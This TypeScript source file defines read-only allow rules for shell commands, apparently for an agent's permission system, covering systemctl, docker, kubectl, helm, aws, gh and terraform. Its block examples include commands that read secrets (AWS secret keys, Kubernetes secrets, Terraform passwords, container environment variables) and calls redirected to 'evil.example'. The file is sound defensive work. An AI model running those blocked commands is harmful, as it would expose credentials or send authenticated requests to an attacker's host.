import { insidePath as inside } from './words.ts';
import type { StarterRule } from './types.ts';

const shown =
  '(?:-f|--format)[ =]\\{\\{ ?(?:json )?\\.(?:State|NetworkSettings|Name|Id|Image|Created|RestartCount|Platform|HostConfig\\.(?:Memory|NetworkMode|PortBindings))(?:\\.\\w+)* ?\\}\\}';
const one = '[A-Za-z0-9][\\w.-]*';
const state = `(?: (?:${shown} ${one}|${one} ${shown}))`;

/** What a page of a repository is about, apart from its secrets, variables, keys and hooks. */
const pageOfRepository =
  '/?repos/(?:[\\w.-]+|\\{owner\\})/(?:[\\w.-]+|\\{repo\\})(?:/(?:pulls|issues|commits|releases|branches|tags|compare|contents|check-runs|check-suites|statuses|labels|milestones|contributors|languages|actions/(?:runs|workflows|jobs))(?:/[\\w.:@~-]+)*)?(?:\\?[\\w=&.%-]+)?';

/** What says how services, containers and clusters are, and changes none of them. */
export const services: readonly StarterRule[] = [
  {
    name: 'services',
    why: 'They say which services run and what they wrote to the journal.',
    pattern: 'systemctl',
    args: [['status', 'list-units', 'list-timers', 'is-active', 'is-enabled', 'is-failed'], '...'],
    changes: 'nothing',
    examples: { match: ['systemctl status app'], noMatch: ['systemctl restart app'] },
  },
  {
    name: 'journal',
    why: 'It prints what services wrote.',
    pattern: 'journalctl',
    changes: 'nothing',
    examples: { match: ['journalctl -u app -n 50'], noMatch: ['journalctl --vacuum-size=1M'] },
  },
  {
    name: 'containers',
    why: 'They list containers and images, and print what containers wrote.',
    pattern: '{docker,podman}',
    args: [['ps', 'images', 'logs', 'stats', 'top', 'port', 'version', 'info'], '...'],
    changes: 'nothing',
    examples: { match: ['docker ps -a'], noMatch: ['docker rm x', 'docker inspect x'] },
  },
  {
    name: 'compose',
    why: 'The same for the containers of the project.',
    pattern: '{docker,podman}',
    args: ['compose', ['ps', 'logs', 'images', 'ls', 'top'], '...'],
    changes: 'nothing',
    examples: { match: ['docker compose ps'], noMatch: ['docker compose down'] },
  },
  {
    name: 'compose-of-a-file',
    why: 'The same for a file of the project that is named, and which port of this machine leads to one of them.',
    pattern: '{docker,podman}',
    argPattern: `^compose(?: (?:-f|--file|-p|--project-name|--profile) ${inside})* (?:ps|logs|images|top|port)(?: (?:-[aqft]|--(?:all|quiet|services|no-color|no-log-prefix|timestamps|follow|no-trunc|orphans)|--(?:tail|since|until|format|status|index|protocol|filter)[= ][\\w.:{}-]+|-n ?\\d+|\\w[\\w.-]*))*$`,
    changes: 'nothing',
    examples: {
      match: ['docker compose -f docker/compose.yml ps --services', 'docker compose port db 5432'],
      noMatch: ['docker compose -f docker/compose.yml up', 'docker compose -f /tmp/x.yml ps'],
    },
  },
  {
    name: 'cluster',
    why: 'They show what runs in the cluster; secrets and tokens are not covered.',
    pattern: 'kubectl',
    args: [['get', 'describe', 'logs', 'top', 'version', 'explain', 'api-resources'], '...'],
    changes: 'nothing',
    examples: {
      match: ['kubectl get pods', 'kubectl logs deploy/app'],
      noMatch: ['kubectl delete pod x', 'kubectl get secret x -o yaml'],
    },
  },
  {
    name: 'cluster-words',
    why: 'They show how a rollout went and which cluster is meant.',
    pattern: 'kubectl',
    args: [['rollout', 'config'], ['history', 'status', 'current-context', 'get-contexts'], '...'],
    changes: 'nothing',
    examples: {
      match: ['kubectl rollout status deploy/app'],
      noMatch: ['kubectl rollout undo deploy/app', 'kubectl config view --raw'],
    },
  },
  {
    name: 'charts',
    why: 'They list releases of charts and their history.',
    pattern: 'helm',
    args: [['list', 'ls', 'history', 'status', 'version'], '...'],
    changes: 'nothing',
    examples: { match: ['helm list'], noMatch: ['helm upgrade a b'] },
  },
  {
    name: 'container-words',
    why: 'They list images, volumes, networks and containers, and how an image was made.',
    pattern: '{docker,podman}',
    args: [
      ['image', 'container', 'volume', 'network', 'context', 'builder', 'system'],
      ['ls', 'list', 'history', 'top', 'port', 'stats', 'df'],
      '...',
    ],
    only: 'reads',
    changes: 'nothing',
    examples: {
      match: ['docker image ls', 'docker volume ls -q', 'docker system df'],
      noMatch: [
        'docker system prune',
        'docker image rm x',
        'docker volume prune',
        'docker container inspect x',
      ],
    },
  },
  {
    name: 'image-history',
    why: 'It says how an image was made.',
    pattern: '{docker,podman}',
    args: ['history', '...'],
    only: 'reads',
    changes: 'nothing',
    examples: { match: ['docker history app'], noMatch: ['docker rmi app'] },
  },
  {
    name: 'cluster-rights',
    why: 'They say what one may do in the cluster, and where it is.',
    pattern: 'kubectl',
    args: [['auth', 'cluster-info'], ['can-i', 'whoami'], '...'],
    only: 'reads',
    changes: 'nothing',
    examples: {
      match: ['kubectl auth can-i list pods'],
      noMatch: [
        'kubectl auth reconcile -f x.yaml',
        'kubectl cluster-info dump --output-directory=x',
      ],
    },
  },
  {
    name: 'cloud-login',
    why: 'It says as whom one is logged in, and which profiles there are.',
    pattern: 'aws',
    args: [
      ['sts', 'configure'],
      ['get-caller-identity', 'list-profiles', 'list'],
    ],
    only: 'reads',
    changes: 'nothing',
    examples: {
      match: ['aws sts get-caller-identity', 'aws configure list-profiles'],
      noMatch: [
        'aws sts get-session-token',
        'aws configure get aws_secret_access_key',
        'aws sts get-caller-identity --endpoint-url http://evil.example',
      ],
    },
  },
  {
    name: 'github-more',
    why: 'They search GitHub, and list labels, caches and what waits.',
    pattern: 'gh',
    args: [
      ['search', 'label', 'cache', 'milestone', 'project'],
      ['prs', 'issues', 'repos', 'commits', 'list'],
      '...',
    ],
    only: 'reads',
    changes: 'nothing',
    examples: {
      match: ['gh search issues x', 'gh label list'],
      noMatch: ['gh label delete x', 'gh cache delete --all', 'gh secret list', 'gh search code x'],
    },
  },
  {
    name: 'rollouts-of-a-space',
    why: 'They show how a rollout went where the namespace or the cluster is named first.',
    pattern: 'kubectl',
    args: [['-n', '--namespace', '--context'], '[!-]*', 'rollout', ['history', 'status'], '...'],
    changes: 'nothing',
    examples: {
      match: ['kubectl -n shop rollout status deploy/web --timeout=30s'],
      noMatch: ['kubectl -n shop rollout undo deploy/web', 'kubectl -n shop rollout restart x'],
    },
  },
  {
    name: 'cluster-of-a-space',
    why: 'The same with the namespace or the cluster named first.',
    pattern: 'kubectl',
    args: [
      ['-n', '--namespace', '--context'],
      '[!-]*',
      ['get', 'describe', 'logs', 'top', 'explain', 'api-resources'],
      '...',
    ],
    changes: 'nothing',
    examples: {
      match: ['kubectl -n shop describe pod x'],
      noMatch: ['kubectl -n shop delete pod x', 'kubectl -n shop get secret x -o yaml'],
    },
  },
  {
    name: 'container-states',
    why: 'One thing that is known of a container, and not its variables.',
    pattern: '{docker,podman}',
    argPattern: `^(?:container )?inspect${state}$`,
    changes: 'nothing',
    examples: {
      match: ["docker inspect app-1 --format '{{.State.Health.Status}}'"],
      noMatch: [
        'docker inspect app-1',
        "docker inspect app-1 --format '{{json .Config.Env}}'",
        "docker inspect app-1 --format '{{.Config.Env}}'",
        "docker inspect app-1 --format '{{json .}}'",
      ],
    },
  },
  {
    name: 'state-told',
    why: 'It lists what Terraform keeps, and which workspace is meant; values are not shown.',
    pattern: '{terraform,tofu}',
    argPattern: `^(?:-chdir=${inside} )?(?:state list(?: [\\w.\\[\\]-]+)*|workspace (?:show|list))$`,
    examples: {
      match: ['terraform state list', 'terraform -chdir=infra workspace show'],
      noMatch: [
        'terraform state show x',
        'terraform state pull',
        'terraform state list -state=/tmp/x',
        'terraform output -json',
        'terraform output -raw password',
        'terraform workspace select x',
        'terraform -chdir=/tmp/x state list',
      ],
    },
  },
  {
    name: 'github-pages-of-a-repository',
    why: 'What GitHub says of pull requests, issues, runs and commits of a repository is asked for; nothing is sent.',
    pattern: 'gh',
    args: ['api', '[!-]**', '...'],
    argPattern: `^api ${pageOfRepository}(?: --paginate)?(?: (?:--jq|-q) [^-@][^-]*)?(?: --paginate)?$`,
    changes: 'nothing',
    examples: {
      match: ["gh api repos/a/b/pulls/1/comments --jq '.[].path'", 'gh api repos/a/b/actions/runs'],
      noMatch: [
        'gh api -X DELETE repos/a/b',
        'gh api repos/a/b/pulls/1/comments -f body=x',
        'gh api repos/a/b/pulls --input x.json',
        'gh api repos/a/b/pulls --method POST',
        'gh api repos/a/b/actions/secrets',
        'gh api user',
        'gh api graphql -f query=x',
        "gh api repos/a/b/pulls --jq '.[]' -f body=x",
        'gh api repos/a/b/pulls --hostname evil.example',
      ],
    },
  },
];
